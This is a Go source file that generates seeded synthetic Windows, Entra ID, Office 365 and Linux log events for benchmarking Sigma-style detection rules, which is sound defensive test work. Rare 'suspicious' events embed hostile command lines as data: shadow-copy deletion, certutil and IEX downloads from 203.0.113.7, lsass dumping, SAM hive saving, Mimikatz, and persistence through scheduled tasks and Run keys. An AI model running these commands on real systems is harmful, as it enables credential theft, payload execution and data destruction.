package conformance

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
)

// A Workload makes events such as an organisation's logs hold, for measuring
// speed: Windows events of Sysmon, Security and PowerShell with their fields at
// the top, sign-ins and audit records of Entra ID as Log Analytics keeps them,
// records of the Office 365 Management Activity API, and some of Linux, which
// no event form describes. About one in a hundred is made to look like an
// attack. The same seed gives the same events. Not for concurrent use.
type Workload struct {
	rnd *rand.Rand
	n   int
}

// NewWorkload returns the workload of a seed.
func NewWorkload(seed uint64) *Workload {
	return &Workload{rnd: rand.New(rand.NewPCG(seed, 0x9e3779b97f4a7c15))}
}

// WorkloadEvent is an event with the logsource that it is of in Sigma's words.
type WorkloadEvent struct {
	Product, Category, Service string
	JSON                       []byte
}

// workloadShares are the parts of each kind in a hundred.
var workloadShares = []struct {
	share int
	make  func(*Workload) (WorkloadEvent, map[string]any)
}{
	{33, (*Workload).process}, {9, (*Workload).registry}, {7, (*Workload).file},
	{12, (*Workload).signIn}, {6, (*Workload).audit}, {8, (*Workload).office},
	{5, (*Workload).logon}, {5, (*Workload).network}, {5, (*Workload).image},
	{4, (*Workload).dns}, {3, (*Workload).powershell}, {3, (*Workload).linux},
}

// Event returns the next event.
func (w *Workload) Event() WorkloadEvent {
	n := w.rnd.IntN(100)
	w.n++
	for _, s := range workloadShares {
		if n -= s.share; n < 0 {
			e, fields := s.make(w)
			// Keys in the order of the alphabet, as collectors that go through
			// a map write them.
			e.JSON, _ = json.Marshal(fields)
			return e
		}
	}
	panic("the shares are no hundred")
}

func oneOf[T any](w *Workload, of []T) T { return of[w.rnd.IntN(len(of))] }

// suspicious says once in a hundred that the event is to look like an attack.
func (w *Workload) suspicious() bool { return w.rnd.IntN(100) == 0 }

func (w *Workload) guid() string {
	a, b := w.rnd.Uint64(), w.rnd.Uint64()
	return fmt.Sprintf("%08x-%04x-%04x-%04x-%012x", uint32(a), uint16(a>>32), uint16(a>>48), uint16(b), b>>16)
}

func (w *Workload) hex(n int) string {
	const digits = "0123456789ABCDEF"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[w.rnd.IntN(16)]
	}
	return string(b)
}

func (w *Workload) time() string {
	return fmt.Sprintf("2026-03-%02dT%02d:%02d:%02d.%03dZ", 1+w.rnd.IntN(28), w.rnd.IntN(24), w.rnd.IntN(60), w.rnd.IntN(60), w.rnd.IntN(1000))
}

func (w *Workload) ip() string {
	if w.rnd.IntN(3) > 0 {
		return fmt.Sprintf("10.%d.%d.%d", w.rnd.IntN(4), w.rnd.IntN(256), 1+w.rnd.IntN(254))
	}
	return fmt.Sprintf("%d.%d.%d.%d", oneOf(w, []int{20, 40, 52, 81, 104, 151, 185, 203}), w.rnd.IntN(256), w.rnd.IntN(256), 1+w.rnd.IntN(254))
}

var (
	workloadUsers   = strings.Fields("adele.vance alex.wilber diego.siciliani grady.archie henrietta.mueller isaiah.langer johanna.lorenz joni.sherman lee.gu lidia.holloway lynne.robbins megan.bowen miriam.graham nestor.wilke patti.fernandez pradeep.gupta svc-backup svc-sql")
	workloadHosts   = strings.Fields("WS-0142 WS-0177 WS-0231 WS-0302 WS-0419 SRV-DC01 SRV-DC02 SRV-SQL01 SRV-FILE02 SRV-WEB01 SRV-EXCH01 LT-0088 LT-0093")
	workloadParents = []string{
		`C:\Windows\explorer.exe`, `C:\Windows\System32\services.exe`, `C:\Windows\System32\svchost.exe`, `C:\Windows\System32\cmd.exe`,
		`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`,
		`C:\Program Files (x86)\Google\Chrome\Application\chrome.exe`, `C:\Windows\CCM\CcmExec.exe`, `C:\Program Files\Git\cmd\git.exe`, `C:\Windows\System32\taskhostw.exe`,
	}
	// An image with its description, product, company, a command line and its usual
	// parent; %s
	// is something new each time.
	workloadProcesses = [][6]string{
		{`C:\Windows\System32\svchost.exe`, "Host Process for Windows Services", "Microsoft® Windows® Operating System", "Microsoft Corporation", `C:\Windows\system32\svchost.exe -k netsvcs -p -s %s`, `C:\Windows\System32\services.exe`},
		{`C:\Windows\System32\conhost.exe`, "Console Window Host", "Microsoft® Windows® Operating System", "Microsoft Corporation", `\??\C:\Windows\system32\conhost.exe 0xffffffff -Handle %s`, `C:\Windows\System32\csrss.exe`},
		{`C:\Windows\System32\cmd.exe`, "Windows Command Processor", "Microsoft® Windows® Operating System", "Microsoft Corporation", `C:\Windows\system32\cmd.exe /c ""C:\ProgramData\Contoso\Jobs\nightly-%s.bat" --log D:\logs\nightly.log"`, `C:\Windows\explorer.exe`},
		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "Windows PowerShell", "Microsoft® Windows® Operating System", "Microsoft Corporation", `powershell.exe -NoLogo -NoProfile -File "C:\Program Files\Contoso\Inventory\Get-Inventory.ps1" -Run %s -OutFile C:\ProgramData\Contoso\inventory.json`, `C:\Windows\explorer.exe`},
		{`C:\Program Files (x86)\Google\Chrome\Application\chrome.exe`, "Google Chrome", "Google Chrome", "Google LLC", `"C:\Program Files (x86)\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --num-raster-threads=4 --renderer-client-id=%s --time-ticks-at-unix-epoch=-1709540112 --launch-time-ticks=88123 --field-trial-handle=1860,i,141`, `C:\Program Files (x86)\Google\Chrome\Application\chrome.exe`},
		{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "Microsoft Word", "Microsoft Office", "Microsoft Corporation", `"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\lee.gu\Documents\Offers\Offer %s.docx" /o ""`, `C:\Windows\explorer.exe`},
		{`C:\Program Files\Git\mingw64\bin\git.exe`, "Git for Windows", "Git", "The Git Development Community", `git.exe -c diff.mnemonicprefix=false -c core.quotepath=false --no-optional-locks fetch --prune origin refs/heads/feature/%s`, `C:\Program Files\Git\cmd\git.exe`},
		{`C:\Program Files\dotnet\dotnet.exe`, ".NET Host", "Microsoft® .NET", "Microsoft Corporation", `"C:\Program Files\dotnet\dotnet.exe" build C:\src\billing\Billing.sln --configuration Release --no-restore /p:Version=4.2.%s /m:4`, `C:\Windows\explorer.exe`},
		{`C:\Windows\System32\taskhostw.exe`, "Host Process for Windows Tasks", "Microsoft® Windows® Operating System", "Microsoft Corporation", `taskhostw.exe %s`, `C:\Windows\System32\svchost.exe`},
		{`C:\Windows\System32\wbem\WmiPrvSE.exe`, "WMI Provider Host", "Microsoft® Windows® Operating System", "Microsoft Corporation", `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding %s`, `C:\Windows\System32\svchost.exe`},
		{`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, "Microsoft Edge", "Microsoft Edge", "Microsoft Corporation", `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=de --service-sandbox-type=none --noerrdialogs --field-trial-handle=%s`, `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`},
		{`C:\Program Files\Java\jdk-21\bin\java.exe`, "OpenJDK Platform binary", "OpenJDK Platform 21", "Eclipse Adoptium", `"C:\Program Files\Java\jdk-21\bin\java.exe" -Xmx2048m -Dfile.encoding=UTF-8 -classpath "C:\Program Files\Contoso\queue\lib\*" com.contoso.queue.Worker --instance %s`, `C:\Windows\System32\services.exe`},
	}
	workloadAttacks = []string{
		`powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`,
		`cmd.exe /c vssadmin.exe delete shadows /all /quiet`,
		`certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\Users\Public\a.exe`,
		`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\lsass.dmp full`,
		`whoami /all`,
		`reg.exe save HKLM\SAM C:\Windows\Temp\sam.save`,
		`schtasks.exe /create /tn updater /tr C:\Users\Public\u.exe /sc onlogon /ru SYSTEM`,
	}
)

// sysmon makes the fields that all events of Sysmon have.
func (w *Workload) sysmon(id int) map[string]any {
	user := oneOf(w, workloadUsers)
	return map[string]any{
		"Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon", "EventID": id,
		"Computer": oneOf(w, workloadHosts) + ".contoso.com", "EventRecordID": w.rnd.IntN(1 << 30), "TimeCreated": w.time(), "UtcTime": "2026-03-14 09:26:53.589",
		"ProcessGuid": "{" + w.guid() + "}", "ProcessId": w.rnd.IntN(20000), "User": `CONTOSO\` + user, "RuleName": "-", "Level": 4, "Task": id, "Keywords": "0x8000000000000000",
	}
}

func (w *Workload) process() (WorkloadEvent, map[string]any) {
	e := w.sysmon(1)
	p := oneOf(w, workloadProcesses)
	image := p[0]
	parent := p[5]
	line := fmt.Sprintf(p[4], w.guid())
	if w.suspicious() {
		line = oneOf(w, workloadAttacks)
		image = `C:\Windows\System32\` + line[:strings.Index(line, ".exe")+4]
		if strings.HasPrefix(line, "whoami") {
			image = `C:\Windows\System32\whoami.exe`
		}
	}
	e["Image"], e["Description"], e["Product"], e["Company"], e["CommandLine"] = image, p[1], p[2], p[3], line
	e["OriginalFileName"] = image[strings.LastIndexByte(image, '\\')+1:]
	e["FileVersion"] = fmt.Sprintf("10.0.%d.%d", w.rnd.IntN(30000), w.rnd.IntN(4000))
	e["CurrentDirectory"] = oneOf(w, []string{`C:\Windows\system32\`, `C:\Users\lee.gu\`, `C:\src\billing\`, `C:\`})
	e["LogonGuid"], e["LogonId"], e["TerminalSessionId"] = "{"+w.guid()+"}", "0x"+w.hex(6), w.rnd.IntN(4)
	e["IntegrityLevel"] = oneOf(w, []string{"Medium", "System", "High", "AppContainer"})
	e["Hashes"] = "SHA256=" + w.hex(64) + ",IMPHASH=" + w.hex(32)
	e["ParentImage"], e["ParentProcessGuid"], e["ParentProcessId"] = parent, "{"+w.guid()+"}", w.rnd.IntN(20000)
	e["ParentCommandLine"], e["ParentUser"] = `"`+parent+`" `+oneOf(w, []string{"", "/restart", "--no-startup-window"}), e["User"]
	return WorkloadEvent{Product: "windows", Category: "process_creation"}, e
}

func (w *Workload) registry() (WorkloadEvent, map[string]any) {
	e := w.sysmon(13)
	e["EventType"], e["Image"] = "SetValue", oneOf(w, workloadParents)
	e["TargetObject"] = oneOf(w, []string{
		`HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-1004336348-1177238915-682003330-512\\Device\HarddiskVolume3\Windows\System32\` + w.hex(8) + ".exe",
		`HKU\S-1-5-21-1004336348-1177238915-682003330-1104\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\FeatureUsage\AppSwitched\` + w.guid(),
		`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\WINEVT\Channels\Microsoft-Windows-Kernel-PnP/Configuration\` + w.hex(6),
		`HKLM\SOFTWARE\Microsoft\EnterpriseCertificates\Root\Certificates\` + w.hex(40),
		`HKCR\Local Settings\MuiCache\` + w.hex(2) + `\52C64B7E\@%SystemRoot%\system32\shell32.dll,-50176`,
	})
	e["Details"] = oneOf(w, []string{"DWORD (0x00000001)", "Binary Data", "QWORD (0x01da7-0x3b1e2c00)", `"C:\Program Files\Contoso\agent.exe" --service`})
	e["RelatedSourceFiles"] = strings.Repeat(`\Device\HarddiskVolume3\Windows\System32\config\`, 5)
	if w.suspicious() {
		e["TargetObject"] = `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater`
		e["Details"] = `C:\Users\Public\updater.exe`
	}
	return WorkloadEvent{Product: "windows", Category: "registry_set"}, e
}

func (w *Workload) file() (WorkloadEvent, map[string]any) {
	e := w.sysmon(11)
	e["Image"], e["CreationUtcTime"] = oneOf(w, workloadParents), "2026-03-14 09:26:53.588"
	e["TargetFilename"] = oneOf(w, []string{
		`C:\Users\lee.gu\AppData\Local\Google\Chrome\User Data\Default\Cache\Cache_Data\f_` + w.hex(6),
		`C:\Windows\Prefetch\CONTOSOAGENT.EXE-` + w.hex(8) + ".pf", `C:\src\billing\obj\Release\net8.0\ref\` + w.guid() + ".cache",
		`C:\Users\megan.bowen\AppData\Local\Packages\MSTeams_8wekyb3d8bbwe\LocalCache\Microsoft\MSTeams\EBWebView\` + w.guid() + `\data_1`,
		`C:\ProgramData\Microsoft\Windows Defender\Scans\History\CacheManager\` + w.guid() + ".bin",
	})
	e["Description"] = strings.Repeat("Written by the application's own cache manager. ", 7)
	if w.suspicious() {
		e["TargetFilename"] = `C:\Users\lee.gu\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\update.vbs`
	}
	return WorkloadEvent{Product: "windows", Category: "file_event"}, e
}

func (w *Workload) network() (WorkloadEvent, map[string]any) {
	e := w.sysmon(3)
	e["Image"], e["Protocol"], e["Initiated"] = oneOf(w, workloadParents), "tcp", oneOf(w, []string{"true", "false"})
	e["SourceIp"], e["SourcePort"], e["SourceIsIpv6"], e["SourceHostname"] = w.ip(), 49152+w.rnd.IntN(16000), "false", e["Computer"]
	e["DestinationIp"], e["DestinationPort"], e["DestinationIsIpv6"] = w.ip(), oneOf(w, []int{443, 443, 443, 80, 53, 389, 445, 135}), "false"
	e["DestinationHostname"] = oneOf(w, []string{"outlook.office365.com", "settings-win.data.microsoft.com", "srv-dc01.contoso.com", "api.github.com"})
	e["Note"] = strings.Repeat("Filtered by the rules of the connection monitor. ", 7)
	return WorkloadEvent{Product: "windows", Category: "network_connection"}, e
}

func (w *Workload) image() (WorkloadEvent, map[string]any) {
	e := w.sysmon(7)
	e["Image"] = oneOf(w, workloadParents)
	e["ImageLoaded"] = oneOf(w, []string{`C:\Windows\System32\uxtheme.dll`, `C:\Windows\System32\combase.dll`, `C:\Program Files\Microsoft Office\root\Office16\mso.dll`, `C:\Windows\System32\amsi.dll`})
	e["FileVersion"], e["Description"], e["Product"], e["Company"] = "10.0.19041.1", "Microsoft UxTheme Library", "Microsoft® Windows® Operating System", "Microsoft Corporation"
	e["OriginalFileName"], e["Signed"], e["Signature"], e["SignatureStatus"] = "UxTheme.dll", "true", "Microsoft Windows", "Valid"
	e["Hashes"] = "SHA256=" + w.hex(64) + ",IMPHASH=" + w.hex(32)
	e["Note"] = strings.Repeat("Loaded when the process began. ", 8)
	return WorkloadEvent{Product: "windows", Category: "image_load"}, e
}

func (w *Workload) dns() (WorkloadEvent, map[string]any) {
	e := w.sysmon(22)
	e["Image"], e["QueryStatus"] = oneOf(w, workloadParents), "0"
	e["QueryName"] = oneOf(w, []string{"outlook.office365.com", "login.microsoftonline.com", "ctldl.windowsupdate.com", "srv-dc01.contoso.com", w.hex(6) + ".cloudfront.net"})
	e["QueryResults"] = strings.Repeat("type:  5 ooc-g2.tm-4.office.com;::ffff:"+w.ip()+";", 8)
	return WorkloadEvent{Product: "windows", Category: "dns_query"}, e
}

func (w *Workload) logon() (WorkloadEvent, map[string]any) {
	user := oneOf(w, workloadUsers)
	e := map[string]any{
		"Channel": "Security", "Provider_Name": "Microsoft-Windows-Security-Auditing", "EventID": oneOf(w, []int{4624, 4624, 4624, 4672, 4688, 4625, 5156}), "Computer": oneOf(w, workloadHosts) + ".contoso.com",
		"EventRecordID": w.rnd.IntN(1 << 30), "TimeCreated": w.time(), "SubjectUserSid": "S-1-5-18", "SubjectUserName": "SRV-DC01$", "SubjectDomainName": "CONTOSO", "SubjectLogonId": "0x3e7",
		"TargetUserSid": "S-1-5-21-1004336348-1177238915-682003330-1104", "TargetUserName": user, "TargetDomainName": "CONTOSO", "TargetLogonId": "0x" + w.hex(6), "LogonType": oneOf(w, []int{3, 3, 3, 2, 5, 10}),
		"LogonProcessName": "Kerberos", "AuthenticationPackageName": "Kerberos", "WorkstationName": oneOf(w, workloadHosts), "LogonGuid": "{" + w.guid() + "}", "TransmittedServices": "-",
		"LmPackageName": "-", "KeyLength": 0, "ProcessId": "0x" + w.hex(3), "ProcessName": `C:\Windows\System32\lsass.exe`, "IpAddress": w.ip(), "IpPort": fmt.Sprint(49152 + w.rnd.IntN(16000)),
		"ImpersonationLevel": "%%1833", "RestrictedAdminMode": "-", "TargetOutboundUserName": "-", "TargetOutboundDomainName": "-", "VirtualAccount": "%%1843", "TargetLinkedLogonId": "0x0", "ElevatedToken": "%%1842",
		"Keywords": "0x8020000000000000", "Level": 0, "Task": 12544,
	}
	return WorkloadEvent{Product: "windows", Service: "security"}, e
}

func (w *Workload) powershell() (WorkloadEvent, map[string]any) {
	e := map[string]any{
		"Channel": "Microsoft-Windows-PowerShell/Operational", "Provider_Name": "Microsoft-Windows-PowerShell", "EventID": 4104, "Computer": oneOf(w, workloadHosts) + ".contoso.com",
		"EventRecordID": w.rnd.IntN(1 << 30), "TimeCreated": w.time(), "MessageNumber": 1, "MessageTotal": 1, "ScriptBlockId": w.guid(), "Path": `C:\Program Files\Contoso\Inventory\Get-Inventory.ps1`,
		"ScriptBlockText": "function Get-Inventory {\n  param([string]$Run, [string]$OutFile)\n  $disks = Get-CimInstance -ClassName Win32_LogicalDisk | Where-Object DriveType -eq 3\n  $soft = Get-ItemProperty 'HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*' | Select-Object DisplayName, DisplayVersion, Publisher\n" +
			"  $net = Get-NetIPAddress -AddressFamily IPv4 | Select-Object InterfaceAlias, IPAddress\n  [pscustomobject]@{ Run = $Run; Id = '" + w.guid() + "'; Disks = $disks; Software = $soft; Net = $net } | ConvertTo-Json -Depth 4 | Set-Content -Path $OutFile -Encoding utf8\n}\n",
		"Level": 5, "Task": 2, "Keywords": "0x0",
	}
	if w.suspicious() {
		e["ScriptBlockText"] = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1'); Invoke-Mimikatz -DumpCreds"
	}
	return WorkloadEvent{Product: "windows", Category: "ps_script"}, e
}

func (w *Workload) signIn() (WorkloadEvent, map[string]any) {
	user := oneOf(w, workloadUsers)
	result := oneOf(w, []string{"0", "0", "0", "0", "0", "50126", "50074", "50140"})
	e := map[string]any{
		"TimeGenerated": w.time(), "OperationName": "Sign-in activity", "Category": "SignInLogs", "ResultType": result, "ResultSignature": "None", "CorrelationId": w.guid(), "Id": w.guid(),
		"Identity": user, "Location": oneOf(w, []string{"DE", "DE", "DE", "US", "FR"}), "AppDisplayName": oneOf(w, []string{"Office 365 Exchange Online", "Microsoft Teams", "Azure Portal", "OfficeHome"}), "AppId": w.guid(),
		"AuthenticationRequirement": oneOf(w, []string{"singleFactorAuthentication", "multiFactorAuthentication"}), "ClientAppUsed": oneOf(w, []string{"Browser", "Mobile Apps and Desktop clients"}), "ConditionalAccessStatus": "success",
		"IPAddress": w.ip(), "IsInteractive": true, "UserPrincipalName": user + "@contoso.com", "UserId": w.guid(), "UserType": "Member", "RiskLevelDuringSignIn": "none", "RiskState": "none", "Type": "SigninLogs",
		"UserAgent":    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
		"DeviceDetail": map[string]any{"deviceId": w.guid(), "operatingSystem": "Windows 10", "browser": "Chrome 122.0.0", "isCompliant": true, "trustType": "Hybrid Azure AD joined"},
		"Status":       map[string]any{"errorCode": 0, "additionalDetails": "MFA requirement satisfied by claim in the token"},
	}
	if result != "0" {
		e["Status"] = map[string]any{"errorCode": json.Number(result), "failureReason": "Error validating credentials due to invalid username or password."}
	}
	if w.suspicious() {
		e["UserAgent"], e["ResultType"] = "python-requests/2.31.0", "50053"
	}
	return WorkloadEvent{Product: "azure", Service: "signinlogs"}, e
}

func (w *Workload) audit() (WorkloadEvent, map[string]any) {
	user := oneOf(w, workloadUsers)
	e := map[string]any{
		"TimeGenerated": w.time(), "OperationName": oneOf(w, []string{"Update user", "Add member to group", "Update device", "Add owner to group"}), "Category": "UserManagement", "Result": "success",
		"LoggedByService": "Core Directory", "ActivityDisplayName": "Update user", "AADOperationType": "Update", "CorrelationId": w.guid(), "Id": w.guid(), "Type": "AuditLogs",
		"InitiatedBy": map[string]any{"user": map[string]any{"id": w.guid(), "userPrincipalName": user + "@contoso.com", "ipAddress": w.ip(), "roles": []any{}}},
		"TargetResources": []any{map[string]any{"id": w.guid(), "displayName": oneOf(w, workloadUsers), "type": "User", "userPrincipalName": oneOf(w, workloadUsers) + "@contoso.com",
			"modifiedProperties": []any{
				map[string]any{"displayName": "StsRefreshTokensValidFrom", "oldValue": `["2026-03-13T09:11:02Z"]`, "newValue": `["2026-03-14T09:26:53Z"]`},
				map[string]any{"displayName": "Included Updated Properties", "oldValue": nil, "newValue": `"StsRefreshTokensValidFrom"`},
			}}},
		"AdditionalDetails": []any{map[string]any{"key": "User-Agent", "value": "Microsoft Azure Graph Client Library 2.1"}},
	}
	if w.suspicious() {
		e["OperationName"], e["ActivityDisplayName"] = "Add member to role", "Add member to role"
	}
	return WorkloadEvent{Product: "azure", Service: "auditlogs"}, e
}

func (w *Workload) office() (WorkloadEvent, map[string]any) {
	user := oneOf(w, workloadUsers)
	e := map[string]any{
		"CreationTime": w.time()[:19], "Id": w.guid(), "Operation": oneOf(w, []string{"FileAccessed", "FileAccessed", "FileModified", "MailItemsAccessed", "Send", "FilePreviewed"}), "OrganizationId": w.guid(), "RecordType": 6, "UserKey": "i:0h.f|membership|10032001@live.com",
		"UserType": 0, "Version": 1, "Workload": "SharePoint", "ClientIP": w.ip(), "UserId": user + "@contoso.com", "CorrelationId": w.guid(), "EventSource": "SharePoint", "ItemType": "File", "ListId": w.guid(), "ListItemUniqueId": w.guid(), "Site": w.guid(),
		"UserAgent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36", "WebId": w.guid(), "SourceFileExtension": "docx",
		"SiteUrl": "https://contoso.sharepoint.com/sites/Offers/", "SourceFileName": "Offer " + w.hex(4) + ".docx", "SourceRelativeUrl": "Shared Documents/2026", "ObjectId": "https://contoso.sharepoint.com/sites/Offers/Shared Documents/2026/Offer.docx",
	}
	if w.suspicious() {
		e["Operation"], e["RecordType"], e["Workload"] = "New-InboxRule", 1, "Exchange"
		e["Parameters"] = []any{map[string]any{"Name": "ForwardTo", "Value": "someone@example.org"}}
	}
	return WorkloadEvent{Product: "m365", Service: "audit"}, e
}

func (w *Workload) linux() (WorkloadEvent, map[string]any) {
	e := map[string]any{
		"timestamp": w.time(), "host": "lnx-" + w.hex(3), "Image": oneOf(w, []string{"/usr/bin/bash", "/usr/bin/python3.11", "/usr/sbin/cron", "/usr/bin/curl"}), "CommandLine": "/usr/bin/python3.11 /opt/contoso/agent/collect.py --interval 60 --id " + w.guid(),
		"ParentImage": "/usr/lib/systemd/systemd", "ParentCommandLine": "/usr/lib/systemd/systemd --switched-root --system --deserialize 31", "User": "root", "CurrentDirectory": "/", "ProcessId": w.rnd.IntN(60000),
		"LogonId": w.rnd.IntN(9999), "TerminalSessionId": 0, "note": strings.Repeat("forwarded by the collector of the site ", 9),
	}
	return WorkloadEvent{Product: "linux", Category: "process_creation"}, e
}
